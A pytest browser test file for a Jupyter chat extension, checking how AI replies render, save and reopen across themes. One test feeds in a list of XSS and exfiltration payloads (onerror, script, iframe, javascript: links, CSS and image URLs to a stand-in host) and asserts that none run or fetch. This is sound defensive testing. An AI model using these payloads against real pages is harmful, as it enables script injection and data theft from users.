"""A chat as it is seen: live, settled, saved, reopened; in JupyterLab and Notebook 7, light and dark."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from watch import trusted

if TYPE_CHECKING:
    from jupyter import NotebookPage

QUICKSTART = Path(__file__).parents[2] / "notebooks" / "quickstart.ipynb"
LOAD = "%load_ext xcyq_magic"
FAILS = {"tags": ["raises-exception"]}
HEADING = """() => {
    const h = document.querySelector('.xcyq-reply h2'), s = getComputedStyle(h), r = h.getBoundingClientRect();
    const looks = {font: s.fontFamily, size: s.fontSize, colour: s.color, gap: s.marginTop};
    return {...looks, left: Math.round(r.left), top: r.top};
}"""

# Where each element of our outputs is, and how it looks, but for colours; a page that trusts nothing has no buttons.
LOOKS = """() => [...document.querySelectorAll('.jp-RenderedHTMLCommon:has(> div > .xcyq-quiet)')].map(output =>
    [...output.querySelectorAll(':not(style, button, mjx-container *)')].map(element => {
        const s = getComputedStyle(element), r = element.getBoundingClientRect();
        const place = [r.left, r.width, r.height].map(Math.round);
        return [element.tagName, s.fontSize, s.listStyleType, s.textAlign.replace('start', 'left'), ...place];
    })
)"""
# The least contrast of a text in our outputs with what is behind it, and that text.
CONTRAST = """() => {
    const numbers = c => (c.match(/[0-9.]+(?:e-?[0-9]+)?/g) ?? []).map(Number);
    const rgba = c => numbers(c).map((n, i) => c.startsWith('color(') && i < 3 ? 255 * n : n).concat(1).slice(0, 4);
    const over = (a, b) => [0, 1, 2].map(i => a[i] * a[3] + b[i] * (1 - a[3])).concat(1);
    const part = n => n <= 10 ? n / 255 / 12.92 : ((n / 255 + .055) / 1.055) ** 2.4;
    const light = c => .2126 * part(c[0]) + .7152 * part(c[1]) + .0722 * part(c[2]) + .05;
    let least = [21, ''];
    for (const output of document.querySelectorAll('.jp-RenderedHTMLCommon:has(> div > .xcyq-quiet)')) {
        const texts = document.createTreeWalker(output, NodeFilter.SHOW_TEXT);
        while (texts.nextNode()) {
            const text = texts.currentNode, of = text.parentElement, all = [];
            if (!text.data.trim() || of.closest('style, mjx-container') || !of.getClientRects().length) continue;
            for (let e = of; e; e = e.parentElement) all.unshift(getComputedStyle(e));
            const ground = all.reduce((under, s) => over(rgba(s.backgroundColor), under), [255, 255, 255, 1]);
            const ink = rgba(getComputedStyle(of).color);
            ink[3] *= all.reduce((product, s) => product * s.opacity, 1);
            const [a, b] = [light(over(ink, ground)), light(ground)];
            const contrast = Math.max(a, b) / Math.min(a, b);
            if (contrast < least[0]) least = [contrast, `${text.data.trim()} in ${of.outerHTML}`.slice(0, 200)];
        }
    }
    return least;
}"""


def alike(one: list, other: list) -> bool:
    """Whether elements have the same looks and, within two pixels, the same places."""
    close = (abs(a - b) <= 2 for a, b in zip(one[4:], other[4:], strict=True))
    return one[:4] == other[:4] and all(close)


def live_widgets(page: NotebookPage) -> int:
    return page.js("() => document.querySelectorAll('.xcyq-live').length")


@pytest.mark.parametrize(("app", "theme", "width"), [("lab", "dark", 1100), ("notebook", "light", 700)])
def test_the_quickstart_is_readable_settled_and_reopened_without_a_kernel(jupyters, folder, app, theme, width):
    path = folder / QUICKSTART.name
    shutil.copy(QUICKSTART, path)
    name = f"quickstart-{app}-{theme}"
    page = jupyters.open(path, app, theme, width)
    page.js("() => window.jupyterapp.commands.execute('notebook:clear-all-cell-outputs')")
    page.start_all()
    page.wait()
    page.page.wait_for_function("() => document.querySelectorAll('.xcyq-live').length === 0", timeout=10_000)
    settled = page.outputs()
    page.picture(f"{name}-settled")
    page.save()
    assert page.foreign == []
    assert page.errors == []
    jupyters.clear()
    saved = json.loads(path.read_text())
    types = {t for c in saved["cells"] for o in c.get("outputs", []) for t in o.get("data", {})}
    assert "application/vnd.jupyter.widget-view+json" not in types
    assert "application/vnd.xcyq.turn+json" in types
    # As it comes to somebody else: the kernel is gone, nothing of its widgets is left, and nobody trusts the file.
    saved["metadata"]["from"] = "elsewhere"
    path.with_stem("elsewhere").write_text(json.dumps(saved))
    page = jupyters.open(path.with_stem("elsewhere"), app, theme, width)
    page.page.wait_for_selector(".xcyq-reply", timeout=20_000)
    assert not trusted(page.page)
    page.picture(f"{name}-reopened")
    assert [_words(o) for o in page.outputs()] == [_words(o) for o in settled]
    assert "model not found" not in page.page.inner_text("body")
    assert page.foreign == []


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_a_reply_looks_the_same_live_and_settled(jupyters, notebook, theme):
    prompt = "sandbox: markdown 1100\nsandbox: think 300\nsandbox: pace 30\nWhich of the two methods fits better?"
    page = jupyters.open(notebook(LOAD, f"%%chat -m claude-opus-4-7\n{prompt}"), "lab", theme, 900, 760)
    page.start_all()
    page.page.wait_for_selector(".xcyq-live table", timeout=60_000)
    live = page.js(HEADING)
    page.page.screenshot(path=str(page.output / f"reply-{theme}-live.png"))
    page.wait()
    page.page.wait_for_selector(".xcyq-live", state="detached", timeout=10_000)
    settled = page.js(HEADING)
    page.page.screenshot(path=str(page.output / f"reply-{theme}-settled.png"))
    same = ("font", "size", "colour", "left", "gap")
    assert float(live["gap"].removesuffix("px")) > 5  # it does not stick to the line above it
    assert {k: live[k] for k in same} == {k: settled[k] for k in same}
    assert abs(live["top"] - settled["top"]) <= 30  # the line of the reasoning, and the Stop button's


LOOKED_AT = """# One

Some `code`, **bold**, $x_1^2$.

## Two
- one
- [x] done
- [ ] to do

| left | right | plain |
|:---|---:|---|
| a | 1.5 | of words |
| b | 22.5 | no |

> a quote

```python
class Odd(Exception):
    # a comment
    def f(self, x: int = 3) -> str:
        return f"{x}" + 'a line that is longer than a column of text is wide, and so it scrolls in its place' * 3
```

    no language"""


@pytest.mark.parametrize(("app", "theme", "width"), [("lab", "dark", 1200), ("notebook", "light", 700)])
def test_a_notebook_that_is_not_trusted_looks_as_one_that_is(jupyters, notebook, app, theme, width):
    cells = [
        f"%%chat\nsandbox: echo\nsandbox: think 80\n{LOOKED_AT}",
        "from PIL import Image\npicture = Image.new('RGB', (300, 200), 'teal')",
        "%%chat -a picture\nsandbox: finish length\nwhat?",
        "%%compare gpt-5.5 gpt-5.4-official --judge gpt-5.4\nsandbox: vary\nsandbox: for gpt-5.5: status 400\nHello",
        "%%compare gpt-5.5 gpt-5.4 --diff\nsandbox: vary\nHello there, what is the median?",
        "%chat_usage\n%chat_models gpt-5.5",
    ]
    path = notebook(LOAD, *cells, "from IPython.display import HTML\nHTML('<h2>Seen</h2>')", metadata=FAILS)
    page = jupyters.open(path, app, theme, width)
    page.start_all()
    page.wait()
    page.page.wait_for_selector(".xcyq-live", state="detached", timeout=10_000)
    page.save()
    with page.whole():
        page.page.wait_for_timeout(300)  # the shadows, and what JupyterLab typesets
        seen, contrast = page.js(LOOKS), page.js(CONTRAST)
    page.picture(f"looks-{app}-{theme}-trusted")
    assert contrast[0] >= 4.5, contrast
    if app == "lab":
        page.js("() => window.jupyterapp.commands.execute('toc:show-panel')")
        page.page.wait_for_selector(".jp-tocItem")
        assert page.page.locator(".jp-tocItem").all_inner_texts() == ["Seen"]
    saved = json.loads(path.read_text())
    saved["metadata"]["from"] = "elsewhere"
    path.with_stem("elsewhere").write_text(json.dumps(saved))
    page = jupyters.open(path.with_stem("elsewhere"), app, theme, width)
    page.page.wait_for_selector(".xcyq-columns", timeout=20_000)
    assert not trusted(page.page)
    with page.whole():
        page.page.wait_for_timeout(300)
        reopened = page.js(LOOKS)
    page.picture(f"looks-{app}-{theme}-not-trusted")
    assert len(seen) == 6
    for before, after in zip(seen, reopened, strict=True):
        assert [(a, b) for a, b in zip(before, after, strict=True) if not alike(a, b)] == []


def _words(text: str) -> list[str]:
    return text.split()


def test_the_stop_button_ends_the_reply_and_keeps_what_came(jupyters, notebook, gateway):
    chat = "%%chat\nsandbox: markdown 3000\nsandbox: stall 300"
    page = jupyters.open(notebook(LOAD, chat, "print('partial:', _reply.partial)"))
    page.start_all()
    page.page.wait_for_selector(".xcyq-live h2", timeout=30_000)  # the button is there before the reply
    page.page.get_by_role("button", name="Stop").click(timeout=30_000)
    page.wait(20)
    page.page.wait_for_timeout(300)
    outputs = page.outputs()
    assert outputs[2].strip() == "partial: stopped"
    assert "stopped" in outputs[1]
    assert "Part 1" in outputs[1]
    assert live_widgets(page) == 0
    assert gateway.received[-1].ending == "closed by the client"


def test_a_hostile_reply_neither_runs_nor_fetches_live_settled_and_reopened(jupyters, notebook):
    hostile = "\n\n".join(
        [
            "<img src=x onerror='window.pwned=1'>",
            "<script>window.pwned=2</script>",
            "<iframe srcdoc='<script>parent.pwned=3</script>'></iframe>",
            "![](http://127.0.0.2:9/leak?data=1)",
            "[click](javascript:window.pwned=4)",
            "<svg onload='window.pwned=5'></svg>",
            "<style>body{background:url(http://127.0.0.2:9/css)}</style>",
            "<form action='http://127.0.0.2:9/'><input name=a></form>",
            r'Math: $\mmlToken{mglyph}[src="http://127.0.0.2:9/math"]{}$ and $\href{javascript:window.pwned=6}{x}$',
            "the end",
        ]
    )
    path = notebook(LOAD, f"%%chat\nsandbox: echo\nsandbox: pace 40 20\n{hostile}")
    page = jupyters.open(path)
    page.start_all()
    page.wait()
    page.page.wait_for_timeout(500)
    assert "<script>window.pwned=2</script>" in page.outputs()[1]  # shown as text, not dropped
    assert "http://127.0.0.2:9/leak?data=1" in page.outputs()[1]
    assert page.js("() => window.pwned ?? null") is None
    assert page.foreign == []
    page.save()
    page.page.close()
    page = jupyters.open(path)
    page.page.wait_for_selector(".xcyq-reply", timeout=20_000)
    page.page.wait_for_timeout(500)
    assert "the end" in page.outputs()[1]
    assert page.js("() => window.pwned ?? null") is None
    assert page.foreign == []


def test_a_page_that_is_loaded_anew_meanwhile_shows_the_reply_once_it_is_whole(jupyters, notebook):
    path = notebook(LOAD, "%%chat\nsandbox: markdown 700\nsandbox: pace 20\nHow?")
    page = jupyters.open(path)
    page.run(0)
    page.start(1)
    page.page.wait_for_selector(".xcyq-live table", timeout=60_000)
    page.save()
    saved = json.loads(path.read_text())["cells"][1]["outputs"][0]["data"]
    assert "was asked at" in "".join(saved["text/html"])
    assert "%chat_history" in "".join(saved["text/plain"])
    page.page.reload()
    shown = "() => document.querySelectorAll('.jp-CodeCell')[1]?.innerText"
    page.page.wait_for_function(f"{shown}?.includes('Part 2')", timeout=60_000)
    assert "model not found" not in page.js(shown)


def test_a_reply_stays_in_an_output_widget(jupyters, notebook):
    code = "import ipywidgets\nout = ipywidgets.Output()\ndisplay(out)\nwith out:\n    %chat sandbox: markdown 300"
    page = jupyters.open(notebook(LOAD, code))
    page.start_all()
    page.wait()
    page.page.wait_for_selector(".jupyter-widgets .xcyq-reply, .widget-output .xcyq-reply", timeout=10_000)
    assert "Part 1" in page.outputs()[1]
